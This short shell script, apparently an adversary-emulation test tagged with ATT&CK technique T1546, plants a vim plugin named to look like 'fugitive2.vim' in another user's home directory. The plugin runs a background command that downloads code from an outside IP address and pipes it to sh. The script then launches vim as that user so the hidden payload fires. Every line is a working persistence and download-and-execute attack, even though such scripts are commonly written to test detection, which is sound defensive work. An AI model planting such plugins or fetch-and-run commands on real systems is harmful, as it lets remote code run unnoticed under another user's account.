#!/bin/bash
# T1546: An editor of another user starts something.
mkdir -p /home/alice/.vim/plugin; echo 'call system("(curl -s http://44.128.66.66/x | sh) &")' >/home/alice/.vim/plugin/fugitive2.vim; chown -R alice /home/alice/.vim
setpriv --reuid 1001 --regid 1001 --clear-groups env HOME=/home/alice vim -es -c q /home/alice/Documents/report1.txt </dev/null ; sleep 0.5
